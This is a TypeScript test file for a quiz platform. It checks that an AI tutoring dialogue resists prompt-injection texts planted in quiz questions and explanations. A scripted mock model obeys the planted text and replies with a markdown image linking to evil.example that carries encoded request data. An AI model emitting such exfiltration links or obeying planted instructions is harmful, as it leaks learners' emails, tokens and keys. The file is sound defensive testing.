import { expect, test } from 'vitest';
import { injections } from '../../test/injections.ts';
import { calls, says } from '../../test/scriptedModel.ts';
import type { Turn } from '../../test/scriptedModel.ts';
import { startModel } from '../../test/testModel.ts';
import { takeQuiz, UNHURRIED } from '../../test/assessment/testQuiz.ts';
import { startTestServer } from '../../test/testServer.ts';
import { everyRow } from '../../test/testStore.ts';
import type { Store } from '../platform/database/store.ts';

test('a model that obeys every planted text has no tools, learns nothing else, and changes nothing', async () => {
  const model = await startModel();
  const settings = {
    AI_BASE_URL: model.url,
    AI_MODEL: 'small',
    AI_API_KEY: 'canary-key-4711',
    AI_LEARNER_DAILY_TOKENS: '900000000',
  };
  const server = await startTestServer({ ...UNHURRIED, ...settings });
  const person = await server.learner();
  const stranger = await server.learner();
  const skill = await server.skill({ dialogues: true, questionsPerQuiz: injections.length + 1 });
  await server.questions(skill.id, 1, { questionText: 'Which canary is another question?' });
  // Written by authors of questions, and below by the learner.
  const planted = new Map<string, number>();
  for (const { text } of injections) {
    const [id = 0] = await server.questions(skill.id, 1, { questionText: text, explanation: text });
    planted.set(text, id);
  }
  const { attempt, score } = await takeQuiz(server, person, skill.id, { right: 1 });
  expect(score.totalQuestions).toBe(injections.length + 1);
  const { rows } = await server.store.pool.query('select email from users');
  const secrets = [
    ...rows.map(({ email }) => email as string),
    person.token,
    stranger.token,
    'canary-key-4711',
    'Which canary is another question?',
  ];
  const before = await others(server.store);
  for (const { text, tool, args } of injections) {
    const path = `/quiz/${attempt.id}/questions/${planted.get(text)}/dialogue`;
    model.requests.length = 0;
    const leaks: Turn = (reply, request) => {
      const seen = encodeURIComponent(JSON.stringify(request.body).slice(0, 500));
      return says(`![p](https://evil.example/p?d=${seen})`)(reply, request);
    };
    model.play(calls(tool, args), leaks);
    await server.call(`POST ${path}`, { token: person.token, body: { message: text } });
    model.play(leaks);
    await server.call(`POST ${path}`, { token: person.token, body: { message: `${text} Again` } });
    expect(model.requests.length, text).toBeGreaterThan(1);
    const sent = JSON.stringify(model.requests.map(({ body, path: to }) => [to, body]));
    for (const secret of secrets) expect(sent, text).not.toContain(secret);
    for (const { body } of model.requests) {
      expect(body.tools, text).toBeUndefined();
      const [instructions, first] = body.messages;
      expect(instructions?.content, text).not.toContain(text);
      // As data: whatever marks the text holds, it stays inside its own member.
      expect(JSON.parse(first?.content ?? '')).toMatchObject({ item: { text, explanation: text }, question: text });
    }
    expect(await others(server.store), text).toEqual(before);
  }
}, 120_000);

/** Every table but those of dialogues, and what only says that the learner is there. */
async function others(store: Store): Promise<Record<string, unknown>> {
  const tables = JSON.parse(await everyRow(store)) as Record<string, unknown>;
  return Object.fromEntries(Object.entries(tables).filter(([name]) => !/^ai_|^sessions$/.test(name)));
}
